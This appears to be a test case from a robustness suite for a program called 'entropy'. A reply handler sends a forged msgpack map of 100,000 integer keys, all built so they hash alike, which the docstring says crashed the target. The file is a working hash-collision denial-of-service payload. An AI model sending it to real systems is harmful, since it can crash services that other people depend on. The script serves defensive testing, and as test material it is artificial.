"""Sends a map of a hundred thousand keys with one hash in the place of a message.

Outcome of entropy: crashed
"""

import struct
import sys


MODULUS = sys.hash_info.modulus
KEYS = b"".join(b"\xcf" + struct.pack(">Q", number % 8 * MODULUS) + b"\xc0" for number in range(100_000))
HEAD = b"\xdf" + struct.pack(">I", 100_000) + KEYS


def forged(request):
    return struct.pack("<II", len(HEAD), 0) + HEAD


reply_with(forged)
